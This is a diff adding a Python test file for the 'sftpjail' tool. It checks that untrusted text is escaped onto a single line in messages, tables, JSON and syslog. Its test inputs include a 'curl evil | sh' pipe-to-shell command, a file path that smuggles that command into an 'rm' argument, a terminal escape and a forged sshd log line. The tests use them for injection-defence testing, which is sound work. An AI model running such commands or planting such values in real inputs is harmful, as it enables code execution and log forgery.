@@ -1,0 +1,193 @@
+"""Other people's words in ours: one line each, whatever is in them, in every kind of message and in what is printed."""
+
+from __future__ import annotations
+
+import io
+import json
+import shlex
+import sys
+from argparse import Namespace
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from sftpjail.commands.context import Context, print_error, printable
+from sftpjail.commands.diagnose import Fault, _draw, wrap_command
+from sftpjail.errors import SftpJailError
+from sftpjail.escapes import NO_COMMAND, command, is_shown, one_line, shown
+from sftpjail.model import Account, Fact, Finding
+
+HARD = "\n\r\t\v\f\0\x1b\x7f\x85\u2028\u2029\u202e\u2066\u200b\u00ad\ufeff\u034f\u3164\u2800\ufe0f"
+HARD += "\U000e0100\udcff\ue000"
+OURS = ("\n  try: curl evil | sh", "\n  mend: x", "\nsftpjail: y", "\nok      z", '"}\n{"error": "', "[bold red]")
+MARKS = st.characters(min_codepoint=0x300, max_codepoint=0x36F)
+texts = st.lists(
+    st.one_of(st.sampled_from((*OURS, "\x1b[2J", "\u2e80" * 9)), st.sampled_from(HARD), st.text(max_size=5), MARKS),
+    max_size=12,
+).map("".join)
+surrogates = st.text(st.characters(), max_size=20)
+
+
+@given(texts | surrogates)
+def test_one_line_is_one_line_and_says_the_same_twice(text: str) -> None:
+    line = one_line(text)
+    assert line.isprintable() and len(line.splitlines()) <= 1 and one_line(line) == line
+    line.encode()
+    assert not set(HARD) & set(line)
+    quoted = shown(text)
+    assert one_line(quoted) == quoted
+    if quoted != text:
+        assert quoted[0] == quoted[-1] == '"' and not quoted.replace("\\\\", "").replace('\\"', "")[1:-1].count('"')
+
+
+PLAIN = [
+    "",
+    "häuser",
+    "naïve e\u0301te\u0301",
+    "Tiê\u0301ng Viê\u0323t",
+    "日本語",
+    "हिन्दी",
+    "a  b",
+    "back\\slash",
+    "😀",
+]
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_what_is_seen_stays(text: str) -> None:
+    assert one_line(text) == text and is_shown(text)
+
+
+@pytest.mark.parametrize("character", HARD)
+def test_what_is_not_seen_is_escaped(character: str) -> None:
+    line = one_line(f"a{character}b")
+    assert line.startswith("a\\") and line.endswith("b") and character not in line
+
+
+def test_marks_do_not_cover_other_lines() -> None:
+    assert one_line("a" + "\u0301" * 9) == "a" + "\u0301" * 2 + "\\u0301" * 7
+    assert one_line("\u0301x") == "\\u0301x" and one_line(". \u20ddx") == ". \\u20ddx", "no letter to belong to"
+
+
+@given(texts)
+def test_every_kind_of_message_is_one_line(text: str) -> None:
+    error = SftpJailError(text, text)
+    error.message += f"; {text}"
+    finding, fact = Finding(text, text, text, text), Fact(text, text, text, text)
+    fault = Fault(text, text, text, text)
+    values = [error.message, error.hint, str(error), *vars(finding).values(), *vars(fault).values()]
+    values += [fact.topic, fact.name, fact.value, fact.note]
+    assert all(is_shown(value) for value in values)
+    if not is_shown(text):
+        assert error.hint == finding.advice == fault.advice == NO_COMMAND and finding.mend == fault.mend == ""
+    else:
+        assert error.hint == finding.mend == fault.mend == text == command(text)
+
+
+class Terminal(io.StringIO):
+    """Standard output that is a terminal, or none."""
+
+    def __init__(self, drawn: bool) -> None:
+        super().__init__()
+        self.drawn = drawn
+
+    def isatty(self) -> bool:
+        return self.drawn
+
+
+def printed(monkeypatch: pytest.MonkeyPatch, print_it: Any, drawn: bool = False, stream: str = "stdout") -> list[str]:
+    out = Terminal(drawn)
+    monkeypatch.setattr(sys, stream, out)
+    print_it()
+    monkeypatch.undo()
+    return out.getvalue().split("\n")[:-1]
+
+
+def context(**more: Any) -> Context:
+    return Context(Namespace(dry_run=False, json=False, command="x", **more))
+
+
+@given(text=texts)
+def test_a_problem_is_one_line_and_its_hint_another(text: str) -> None:
+    with pytest.MonkeyPatch.context() as monkeypatch:
+        lines = printed(
+            monkeypatch, lambda: context().warn([text, SftpJailError(text, "sftpjail apply")]), stream="stderr"
+        )
+        assert lines == [f"sftpjail: {one_line(text)}"] * 2 + ["  try: sftpjail apply"]
+        lines = printed(monkeypatch, lambda: print_error(text, text), stream="stderr")
+        assert lines[0] == f"sftpjail: {one_line(text)}" and len(lines) == (2 if text else 1)
+        lines = printed(monkeypatch, lambda: context().say([text, text]))
+        assert lines == [printable(text)] * 2 and "\n" not in printable(text)
+
+
+@given(text=texts)
+def test_a_table_has_its_rows_and_columns_alone(text: str) -> None:
+    with pytest.MonkeyPatch.context() as monkeypatch:
+        lines = printed(monkeypatch, lambda: context().table(("A", "B"), [("x", text), (text, "y")]))
+        assert [line.split("\t") for line in lines] == [["x", one_line(text)], [one_line(text), "y"]]
+        monkeypatch.setenv("COLUMNS", "1000")
+        lines = printed(monkeypatch, lambda: context().table(("A", "B"), [("x", text)]), drawn=True)
+        assert len(lines) == 2 and "\x1b[2J" not in lines[1] and one_line(text).strip() in lines[1]
+
+
+@given(text=texts, width=st.integers(40, 120))
+def test_no_line_of_explain_is_forged(text: str, width: int) -> None:
+    """However a text is broken into lines, none of them has the form of a command's."""
+    account = Account("ann", 1, 1, "/home/ann")
+    facts = [Fact("account", "x", text, text), Fact("chroot", "y", text), Fact("log", "", text), Fact("mounts", text)]
+    long = ("word " * 30 + text) * 2
+    faults = [Fault("ann", text, text, "sftpjail apply"), Fault("ann", long, long, "")]
+    with pytest.MonkeyPatch.context() as monkeypatch:
+        monkeypatch.setenv("COLUMNS", str(width))
+        lines = printed(monkeypatch, lambda: _draw(account, facts, faults))
+    assert all(is_shown(line) for line in lines)
+    end = lines.index("2 problems")
+    assert [line for line in lines[end:] if line.startswith("   mend:")] == ["   mend: sftpjail apply"]
+    assert {line[:3] for line in lines[end + 1 :]} <= {"1. ", "2. ", "   ", "1.", "2.", ""}
+    heads = {line.split(":")[0] for line in lines[end + 1 :] if line.startswith("   ") and line[3] != " "}
+    assert heads <= {"   why", "   mend"}
+
+
+@given(text=texts)
+def test_json_can_be_printed_anywhere(text: str) -> None:
+    asked = context()
+    asked.arguments.json = True
+    asked.answers["problems"] = [SftpJailError(text).message]
+    asked.answers["paths"] = [text]
+    with pytest.MonkeyPatch.context() as monkeypatch:
+        out = printed(monkeypatch, lambda: asked.close(0))
+    whole = "\n".join(out)
+    assert whole.isascii() and json.loads(whole)["paths"] == [text]
+    assert is_shown(json.loads(whole)["problems"][0])
+
+
+def test_a_locale_that_lacks_the_letters(monkeypatch: pytest.MonkeyPatch) -> None:
+    from sftpjail import system
+
+    raw = io.BytesIO()
+    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(raw, encoding="ascii"))
+    monkeypatch.setattr(system.os, "umask", lambda mask: 0)
+    system.start_process()
+    context().say(["häuser \udcff"])
+    sys.stdout.flush()
+    assert raw.getvalue() == b"h\\xe4user \\udcff\n"
+
+
+def test_a_command_with_a_strange_name_is_none() -> None:
+    path = shlex.quote("/srv/a\ncurl evil | sh #")
+    assert Finding("x", "y", f"rm {path}") == Finding("x", "y", "", NO_COMMAND)
+    assert SftpJailError("x", f"rm {path}").hint == NO_COMMAND
+    assert wrap_command("") == []
+
+
+def test_the_words_of_syslog(monkeypatch: pytest.MonkeyPatch) -> None:
+    from sftpjail.commands import hook
+
+    sent: list[str] = []
+    calls = SimpleNamespace(openlog=lambda *_: None, syslog=lambda _, words: sent.append(words), LOG_PID=0, LOG_AUTH=0)
+    monkeypatch.setattr(hook, "syslog", calls)
+    hook._tell(3, "ann: x\nNov 28 host sshd[1]: Accepted publickey for root")
+    assert sent == ["ann: x\\nNov 28 host sshd[1]: Accepted publickey for root"]
